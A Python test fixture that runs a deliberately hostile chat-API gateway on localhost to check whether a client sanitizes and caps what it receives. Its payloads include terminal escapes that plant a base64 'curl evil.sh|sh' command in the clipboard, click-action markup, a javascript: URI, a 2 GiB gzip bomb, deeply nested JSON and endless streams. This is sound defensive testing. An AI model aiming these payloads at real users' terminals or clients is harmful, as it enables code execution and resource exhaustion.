"""A gateway that attacks its client, on 127.0.0.1 only, for tests and benchmarks.

Each :class:`Attack` is one way a hostile (or compromised) gateway can hurt a client:
terminal escapes and markup in every field, the auth code echoed across every cut,
lines and bodies far larger than memory should hold, a gzip bomb, JSON nested
deeper than the stack, a usage cursor that never ends, Gemini finish reasons that
carry escapes and secrets. The server answers every path the client uses (the four
chat formats, credits/usage, models) according to the attack it was started with.

Big bodies are *streamed* in 1 MB pieces, never built, and every loop is bounded
(a byte budget, or the client hanging up), so a test that fails cannot hang or eat
the machine. Stdlib only: ``http.server`` in a daemon thread.
"""

from __future__ import annotations

import json
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from enum import Enum
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any

MiB = 1024 * 1024

#: Bytes that drive terminals: OSC 52 (clipboard), OSC 2 (title), CSI 2J (clear), a C1 CSI, BEL, CR.
ESCAPES = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]2;pwned\x07\x1b[2J\x9b31m\r\x00\x7f"
#: Textual markup that would break a toast or become a clickable action if parsed.
MARKUP = "[/][b][@click=app.screenshot('victim.txt','/tmp')]"
#: Terminal-control characters no cleaned string may contain (C0 but newline/tab, DEL, C1).
CONTROL_CHARS = {chr(c) for c in range(0x20) if c not in (0x09, 0x0A)} | {chr(c) for c in range(0x7F, 0xA0)}


def has_controls(text: str) -> bool:
    """Whether ``text`` holds any character a terminal would obey."""
    return any(ch in CONTROL_CHARS for ch in text)


def leaked_pieces(text: str, secret: str, size: int = 6) -> list[str]:
    """Every piece of ``secret`` of ``size`` characters that appears in ``text``."""
    return [secret[i : i + size] for i in range(len(secret) - size + 1) if secret[i : i + size] in text]


class Attack(Enum):
    ESCAPES = "escapes"  # escapes + markup in text, thinking, finish reasons, model ids, usage, sources
    ERROR_ECHO = "error-echo"  # error bodies (JSON, HTML title, plain) echoing the code across each cut
    HUGE_LINE = "huge-line"  # one SSE line of ``huge_size`` bytes
    ENDLESS_LINE = "endless-line"  # a line that never ends (until the client hangs up)
    GZIP_BOMB = "gzip-bomb"  # ~2 MB of gzip that inflates to 2 GiB, on every path
    NESTED = "nested"  # JSON nested 1,000+ deep everywhere (bodies, error bodies, stream events)
    NESTED_ERROR = "nested-error"  # an HTTP 400 whose body is JSON nested 1,000+ deep
    ENDLESS_USAGE = "endless-usage"  # a fresh nextId on every usage page, forever
    GEMINI_FINISH = "gemini-finish"  # finishReason with escapes and the code, then a usage chunk
    TRICKLE = "trickle"  # a reply that sends a byte now and then, forever


@dataclass
class HostileGateway:
    """The server; use as a context manager. ``url`` is its base URL; ``hits`` counts requests per path."""

    attack: Attack
    auth_code: str
    huge_size: int = 300 * MiB
    #: Most bytes any endless answer sends before giving up (the client should hang up long before).
    budget: int = 4096 * MiB
    hits: dict[str, int] = field(default_factory=dict)
    #: Bytes each streamed answer managed to send before the client hung up (or the budget ran out).
    sent: list[int] = field(default_factory=list)
    #: Decoded bytes after which :attr:`marked` notes the time (a client's cap: the 64 MB line).
    mark_at: int = 64 * MiB
    #: ``time.monotonic()`` when an answer's decoded bytes first passed :attr:`mark_at`.
    marked: list[float] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._server: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None
        self._lock = threading.Lock()

    @property
    def url(self) -> str:
        assert self._server is not None, "start the gateway first"
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    def __enter__(self) -> HostileGateway:
        gateway = self

        class Handler(_Handler):
            owner = gateway

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()
        return self

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        assert self._server is not None
        self._server.shutdown()
        self._server.server_close()

    def count(self, path: str) -> None:
        with self._lock:
            self.hits[path] = self.hits.get(path, 0) + 1

    def note_decoded(self, before: int, after: int) -> None:
        """An answer went from ``before`` to ``after`` decoded bytes: note when it passes the mark."""
        if before <= self.mark_at < after:
            with self._lock:
                self.marked.append(time.monotonic())

    # ------------------------------------------------------------------ bodies

    def echo(self) -> str:
        """Text that holds the code whole, and again straddling the 80/120/300-character cuts."""
        code = self.auth_code
        pieces = [f"bad key {code}."]
        for cut in (80, 120, 300):
            # Place the code so that the cut falls in its middle.
            pieces.append("x" * max(cut - len(code) // 2 - 8, 1) + code + " ")
        return " ".join(pieces)

    def nested(self, depth: int = 100_000) -> bytes:
        return b"[" * depth + b"]" * depth


class _Handler(BaseHTTPRequestHandler):
    owner: HostileGateway
    protocol_version = "HTTP/1.0"  # the body ends when the connection closes: no length needed

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the stdlib's name
        pass  # quiet tests

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        self._answer()

    def do_POST(self) -> None:  # noqa: N802 - the stdlib's name
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(min(length, 64 * MiB))
        self._answer()

    # ------------------------------------------------------------------ dispatch

    def _answer(self) -> None:
        gw = self.owner
        path = self.path.split("?")[0]
        gw.count(path)
        attack = gw.attack
        try:
            if attack is Attack.ERROR_ECHO:
                self._error_echo(path)
            elif attack is Attack.NESTED_ERROR:
                self._send(400, "application/json", gw.nested())
            elif attack is Attack.GZIP_BOMB:
                self._gzip_bomb(path)
            elif attack is Attack.NESTED:
                self._nested(path)
            elif path == "/api/v1/credits":
                self._credits()
            elif path == "/v1/models":
                self._models()
            elif attack in (Attack.HUGE_LINE, Attack.ENDLESS_LINE):
                self._big_line(attack)
            elif attack is Attack.TRICKLE:
                self._trickle()
            else:
                self._chat(path)
        except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError):
            pass  # the client hung up: exactly what a capped reader does

    def _head(self, status: int, content_type: str, extra: dict[str, str] | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        for name, value in (extra or {}).items():
            self.send_header(name, value)
        self.end_headers()

    def _send(self, status: int, content_type: str, body: bytes) -> None:
        self._head(status, content_type, {"Content-Length": str(len(body))})
        self.wfile.write(body)

    def _stream(self, chunks: Iterator[bytes], *, count_decoded: bool = False) -> None:
        """Write chunks until they run out, the budget is spent, or the client hangs up."""
        sent = 0
        try:
            for chunk in chunks:
                self.wfile.write(chunk)
                if count_decoded:  # what is sent is what the client decodes (no compression)
                    self.owner.note_decoded(sent, sent + len(chunk))
                sent += len(chunk)
                if sent >= self.owner.budget:
                    break
        finally:
            self.owner.sent.append(sent)

    # ------------------------------------------------------------------ attacks

    def _error_echo(self, path: str) -> None:
        echo = self.owner.echo()
        if "credits" in path:
            self._send(500, "text/html", f"<html><title>{echo}</title><body>{echo}</body></html>".encode())
        elif "models" in path:
            self._send(200, "text/plain", f"not json {echo}".encode())
        else:
            body = {"error": {"message": f"{ESCAPES}{MARKUP} {echo}", "code": f"bad{ESCAPES}"}}
            self._send(400, "application/json", json.dumps(body).encode())

    def _gzip_bomb(self, path: str) -> None:
        streaming = path.startswith("/v1/") and path != "/v1/models" or "stream" in path
        content_type = "text/event-stream" if streaming else "application/json"
        self._head(200, content_type, {"Content-Encoding": "gzip"})
        # Spaces are valid JSON whitespace; in a stream they are one endless line.
        self._stream(_gzip_of_zeros(2048 * MiB, b" ", self.owner.note_decoded))

    def _nested(self, path: str) -> None:
        nested = self.owner.nested().decode()
        if path in ("/api/v1/credits", "/v1/models"):
            self._send(200, "application/json", nested.encode())
        else:
            self._send(200, "text/event-stream", f"data: {nested}\n\n".encode())

    def _credits(self) -> None:
        gw = self.owner
        if gw.attack is Attack.ENDLESS_USAGE:
            page = gw.hits["/api/v1/credits"]
            record = {"id": page, "model": "gpt-5.4", "input_tokens": 1, "output_tokens": 1, "price": 0.01}
            usage = {"pageSize": 1, "nextId": f"cursor-{page}", "list": [record]}
        else:
            record = {
                "id": f"7{ESCAPES}",
                "model": f"gpt{ESCAPES}{MARKUP}",
                "tokens": 3,
                "input_tokens": 2,
                "output_tokens": 1,
                "price": 0.5,
                "create_time": 1760000000000,
                "note": f"={ESCAPES}",
                "deep": json.loads("[" * 500 + "]" * 500),
            }
            usage = {"pageSize": 50, "nextId": "", "list": [record]}
        body = {"data": {"balance": 8.5, "amount": 10.0, "usage": usage}}
        self._send(200, "application/json", json.dumps(body).encode())

    def _models(self) -> None:
        ids = [f"evil{ESCAPES}", MARKUP, "ok-model", "x" * 5000, " spaced model ", "gpt-5.4"]
        self._send(200, "application/json", json.dumps({"data": [{"id": i} for i in ids]}).encode())

    def _big_line(self, attack: Attack) -> None:
        self._head(200, "text/event-stream")
        size = self.owner.huge_size if attack is Attack.HUGE_LINE else None
        self._stream(_line_chunks(size), count_decoded=True)

    def _trickle(self) -> None:
        self._head(200, "text/event-stream")
        stop = threading.Event()
        for _ in range(100_000):  # bounded: at most ~100 s of trickling, far past any test's deadline
            self.wfile.write(b": still here\n")
            self.wfile.flush()
            stop.wait(0.001)

    def _chat(self, path: str) -> None:
        gw = self.owner
        if path.startswith("/v1beta/"):
            self._gemini(gw)
            return
        text = f"Hello {ESCAPES}{MARKUP} world"
        chunks = [
            {"choices": [{"index": 0, "delta": {"reasoning_content": f"think {ESCAPES}"}}]},
            {"choices": [{"index": 0, "delta": {"content": text}}]},
            {"choices": [{"index": 0, "delta": {}, "finish_reason": f"stop{ESCAPES}"}]},
        ]
        body = "".join(f"data: {json.dumps(c)}\n\n" for c in chunks) + "data: [DONE]\n\n"
        self._send(200, "text/event-stream", body.encode())

    def _gemini(self, gw: HostileGateway) -> None:
        reason = f"STOP{ESCAPES}{gw.auth_code}" if gw.attack is Attack.GEMINI_FINISH else "STOP"
        chunks: list[dict[str, Any]] = [
            {
                "candidates": [
                    {
                        "content": {"role": "model", "parts": [{"text": f"Hi {ESCAPES}{MARKUP}"}]},
                        "groundingMetadata": {
                            "groundingChunks": [
                                {"web": {"uri": "https://example.org/a", "title": f"A{ESCAPES}{MARKUP}"}},
                                {"web": {"uri": "javascript:alert(1)", "title": "js"}},
                                {"web": {"uri": f"https://x.test/{ESCAPES}", "title": "ctl"}},
                            ]
                        },
                    }
                ],
                "usageMetadata": {"promptTokenCount": 5, "candidatesTokenCount": 1},
            },
            {
                "candidates": [
                    {"content": {"role": "model", "parts": [{"text": "!"}]}, "finishReason": reason}
                ],
                "usageMetadata": {"promptTokenCount": 5, "candidatesTokenCount": 2},
            },
            # The closing chunk real gateways send: the full counts, after the finish.
            {"usageMetadata": {"promptTokenCount": 5, "candidatesTokenCount": 7, "thoughtsTokenCount": 3}},
        ]
        body = "".join(f"data: {json.dumps(c)}\r\n\r\n" for c in chunks)
        self._send(200, "text/event-stream", body.encode())


def _line_chunks(size: int | None) -> Iterator[bytes]:
    """``data: "xxxx…`` with no line end: ``size`` bytes, or without end when ``size`` is None."""
    yield b'data: {"choices":[{"index":0,"delta":{"content":"'
    piece = b"x" * MiB
    sent = 0
    while size is None or sent < size:
        yield piece
        sent += len(piece)
    yield b'"}}]}\n\n'


def _gzip_of_zeros(
    size: int, byte: bytes, on_decoded: Callable[[int, int], None] | None = None
) -> Iterator[bytes]:
    """A gzip stream of ``size`` copies of ``byte``, compressed as it is sent (never built whole).

    ``on_decoded(before, after)`` hears how many inflated bytes the stream holds so far.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip framing
    block = byte * MiB
    reported = 0
    for index in range(size // MiB):
        out = compressor.compress(block)
        if out:
            # Roughly everything fed so far is in the bytes sent (zlib holds back one block at most).
            if on_decoded is not None:
                on_decoded(reported, (index + 1) * MiB)
            reported = (index + 1) * MiB
            yield out
    yield compressor.flush()


def gzip_size(size: int, byte: bytes = b" ") -> int:
    """How many bytes the gzip bomb of ``size`` inflated bytes is on the wire (for reports)."""
    return sum(len(chunk) for chunk in _gzip_of_zeros(size, byte))


__all__ = [
    "CONTROL_CHARS",
    "ESCAPES",
    "MARKUP",
    "Attack",
    "HostileGateway",
    "gzip_size",
    "has_controls",
    "leaked_pieces",
]
